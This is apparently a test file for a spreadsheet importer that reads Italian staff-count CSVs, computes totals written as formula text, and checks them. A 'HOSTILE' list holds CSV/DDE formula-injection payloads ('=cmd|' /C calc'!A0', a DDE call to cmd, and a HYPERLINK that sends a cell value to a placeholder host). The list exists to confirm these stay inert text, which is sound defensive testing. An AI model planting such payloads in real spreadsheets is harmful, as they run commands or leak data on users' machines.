import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { analyse } from '../../importer/engine/analyse';
import { writtenFormula } from '../../importer/engine/formulas/written';
import { main } from '../../importer/cli/main';
import { Dossier, Finding } from '../../importer/engine/schema/dossier';
import { readCsv } from '../../importer/read/csv';
import { readXlsx } from '../../importer/read/xlsx';
import { describeWithTool, SOFFICE } from '../helpers/tools';
import { PYTHON } from '../helpers/wild-writers';
import { tempDir } from '../helpers/xlsx';

/**
 * Totals written as formula TEXT in a CSV («Totale;=SOMMA(B4:B7);=SOMMA(C4:C7)»: typed by hand, or
 * exported by LibreOffice with «salva le formule delle celle»). A CSV holds no computed values: a
 * simple formula is computed as a spreadsheet program would, read, and checked like any total, with
 * a note at the cell. Anything else (=HYPERLINK, =cmd|...!A0, +..., @..., DDE) stays the text it is,
 * and no copy turns it into a live formula.
 */

function dossier(text: string, file = 'personale.csv'): Dossier {
  const r = readCsv(Buffer.from(text, 'utf8'), file);
  return analyse([{ file, grids: r.grids, problems: r.problems }]).dossier;
}

const at = (d: Dossier, cell: string): Finding[] => d.findings.filter((f) => f.cell === cell);
const rules = (d: Dossier, cell: string): string[] => at(d, cell).map((f) => `${f.rule}/${f.severity}`);

const HEAD = ['Personale in servizio al 31/12/2023', '', 'Categoria;Donne;Uomini', 'Cat. D;5;4', 'Cat. C;10;8', 'Cat. B;3;3', 'Cat. A;1;1'];
const italian = (total: string) => [...HEAD, total].join('\r\n');

describe('a total row written as formula text in a CSV is read and checked', () => {
  it.each([
    ['Italian names', 'Totale;=SOMMA(B4:B7);=SOMMA(C4:C7)'],
    ['Italian names and «;» between arguments, in quotes', 'Totale;"=SOMMA(B4;B5;B6;B7)";"=SOMMA(C4:C5;C6:C7)"'],
    ['English names', 'Totale;=SUM(B4:B7);=sum(C4:C7)'],
    ['a sum of cells', 'Totale;=B4+B5+B6+B7;=C4+C5+C6+C7'],
    ['absolute references', 'Totale;=SOMMA($B$4:$B$7);=SOMMA($C4:$C7)'],
  ])('%s: the right total is computed and agrees, with a note at each cell', (_, total) => {
    const d = dossier(italian(total));
    expect(d.pap.headcount).toMatchObject({ F: 19, M: 16, total: 35 });
    for (const [cell, value] of [['B8', 19], ['C8', 16]] as const) {
      expect(rules(d, cell)).toEqual(['read-problem/info']);
      expect(at(d, cell)[0].message).toMatch(new RegExp(`^La cella contiene la formula =.+, scritta come testo nel CSV .*piao l'ha calcolata come farebbe Excel, vale ${value},`));
    }
    expect(d.findings.filter((f) => f.severity !== 'info')).toEqual([]);
  });

  it.each([
    ['a range that leaves out the last row', 'Totale;=SOMMA(B4:B6);=SOMMA(C4:C7)', 'B8', 18, 19],
    ['a sum that adds a row twice', 'Totale;=SOMMA(B4:B7);=C4+C5+C6+C7+C7', 'C8', 17, 16],
  ])('%s: the stated total disagrees and is a sum-mismatch at its cell', (_, total, cell, stated, sum) => {
    const d = dossier(italian(total));
    const mismatch = at(d, cell).find((f) => f.rule === 'sum-mismatch');
    expect(mismatch).toMatchObject({ severity: 'error', expected: sum, actual: stated });
    // the figures still come from the detail cells
    expect(d.pap.headcount).toMatchObject({ F: 19, M: 16, total: 35 });
  });

  it('a comma-separated file with English formulas; Italian-written numbers are summed as a spreadsheet reads them', () => {
    const d = dossier(['Categoria,Donne,Uomini', 'Cat. D,"1.205",4', 'Cat. C,10,8', 'Totale,=SUM(B2:B3),=SUM(C2:C3)'].join('\n'));
    expect(rules(d, 'B4')).toEqual(['read-problem/info']);
    expect(at(d, 'B4')[0].message).toMatch(/vale 1215,/);
    expect(d.findings.filter((f) => f.severity !== 'info')).toEqual([]);
  });

  it('a simple formula over a cell that is not a number: a warning at the cell, read as its text (never a silent 0)', () => {
    const d = dossier(italian('Totale;=B4+B5+B6+B7+A4;=SOMMA(C4:C7)'));
    const w = at(d, 'B8').find((f) => f.rule === 'read-problem')!;
    expect(w.severity).toBe('warning');
    expect(w.message).toMatch(/piao non la calcola: usa una cella che contiene un testo \(«Cat\. D»\)\. La cella è letta come testo/);
  });
});

describe('texts that only look like formulas stay texts', () => {
  const HOSTILE = ['=HYPERLINK("http://esempio.invalid/?"&A1;"Clicca qui")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", '@SUM(B2:B3)', "-2+3+cmd|' /C notepad'!A0", '=1+1', "=Foglio2!B2+1", "='Anno 2022'!B2", '=B2&B3', '=IF(B2>1;B2;0)', '=DDE("cmd";"/C calc";"x")', ' =SOMMA(B2:B3)'];

  it.each(HOSTILE.map((t) => [t]))('%s is not a formula piao reads', (t) => {
    expect(writtenFormula(t)).toBeUndefined();
  });

  it.each([
    ['=SOMMA(B4;B7)', 'SOMMA(B4,B7)'],
    ['=B4*0,5', 'B4*0.5'],
    ['=SOMMA(B4:B7;0,5)', 'SOMMA(B4:B7,0.5)'],
    ['=SUM(B4,5)', 'SUM(B4,5)'],
    ['=B4*0.5', 'B4*0.5'],
  ])('%s reads as %s', (text, formula) => {
    expect(writtenFormula(text)).toBe(formula);
  });

  it('in a CSV they are read as the texts they are, with no note, and the annotated copy holds them as texts, never as formulas', async () => {
    const dir = tempDir('piao-csv-injection-');
    const lines = ['Categoria;Donne;Uomini;Note', ...HOSTILE.map((t, i) => `Cat. ${'DCBA'[i % 4]};${i + 1};1;"${t.replace(/"/g, '""')}"`)];
    writeFileSync(join(dir, 'note.csv'), lines.join('\r\n'));
    const quiet = { out: () => undefined, err: () => undefined };
    expect(await main(['import', join(dir, 'note.csv'), '--out', join(dir, 'out')], quiet)).toBe(0);
    const d = JSON.parse(readFileSync(join(dir, 'out', 'piao.json'), 'utf8')) as Dossier;
    expect(d.findings.filter((f) => /formula/.test(f.message))).toEqual([]);

    const copy = readFileSync(join(dir, 'out', 'annotated', readdirSync(join(dir, 'out', 'annotated'))[0]));
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(copy as unknown as ArrayBuffer);
    const ws = wb.worksheets[0];
    // (the copy shows each text trimmed, as piao reads it)
    expect(HOSTILE.map((_, i) => ws.getCell(i + 2, 4).value)).toEqual(HOSTILE.map((t) => t.trim()));
    expect(HOSTILE.map((_, i) => ws.getCell(i + 2, 4).type)).toEqual(HOSTILE.map(() => ExcelJS.ValueType.String));
    // no formula anywhere in the copy's sheets
    const formulas: string[] = [];
    for (const sheet of wb.worksheets) sheet.eachRow((row) => row.eachCell((cell) => void (cell.type === ExcelJS.ValueType.Formula && formulas.push(cell.address))));
    expect(formulas).toEqual([]);
  });
});

describeWithTool(SOFFICE, 'apt-get install libreoffice-calc', 'a CSV saved by LibreOffice with its formulas («salva le formule delle celle»)', () => {
  it('piao computes what LibreOffice computes when it opens the CSV evaluating its formulas; HYPERLINK stays text', async () => {
    const dir = tempDir('piao-csv-lo-');
    const book = join(dir, 'personale.xlsx');
    const script = [
      'import openpyxl, sys',
      'wb = openpyxl.Workbook(); ws = wb.active; ws.title = "Personale"',
      'ws.append(["Personale in servizio al 31/12/2023"]); ws.append([])',
      'ws.append(["Categoria", "Donne", "Uomini", "Nota"])',
      'for r in [["Cat. D", 5, 4], ["Cat. C", 10, 8], ["Cat. B", 3, 3], ["Cat. A", 1, 1]]: ws.append(r)',
      'ws.append(["Totale", "=SUM(B4:B7)", "=SUM(C4:C6)", \'=HYPERLINK("http://esempio.invalid","clic")\'])',
      'wb.save(sys.argv[1])',
    ].join('\n');
    execFileSync(PYTHON, ['-c', script, book]);
    const profile = `-env:UserInstallation=file://${join(dir, 'profile')}`;
    // exported as an Italian CSV with the formulas (token 10), then opened evaluating them (token 13)
    execFileSync('soffice', ['--headless', profile, '--convert-to', 'csv:Text - txt - csv (StarCalc):59,34,76,1,,1040,false,true,false,true', '--outdir', join(dir, 'csv'), book], { stdio: 'ignore', timeout: 120_000 });
    const csv = readFileSync(join(dir, 'csv', 'personale.csv'));
    expect(csv.toString()).toContain('Totale;=SUM(B4:B7);=SUM(C4:C6)');
    mkdirSync(join(dir, 'back'));
    execFileSync('soffice', ['--headless', profile, '--infilter=Text - txt - csv (StarCalc):59,34,76,1,,1040,false,true,false,false,false,-1,true', '--convert-to', 'xlsx', '--outdir', join(dir, 'back'), join(dir, 'csv', 'personale.csv')], { stdio: 'ignore', timeout: 120_000 });
    const lo = await readXlsx(readFileSync(join(dir, 'back', 'personale.xlsx')), 'personale.xlsx');
    const loTotals = [lo[0].value(7, 1), lo[0].value(7, 2)];
    expect(loTotals).toEqual([19, 15]);

    const r = readCsv(csv, 'personale.csv');
    const d = analyse([{ file: 'personale.csv', grids: r.grids, problems: r.problems }]).dossier;
    expect([r.grids[0].value(7, 1), r.grids[0].value(7, 2)]).toEqual(loTotals);
    expect(rules(d, 'C8')).toEqual(['read-problem/info', 'sum-mismatch/error']);
    expect(r.grids[0].value(7, 3)).toBe('=HYPERLINK("http://esempio.invalid","clic")');
    expect(at(d, 'D8')).toEqual([]);
  });
});
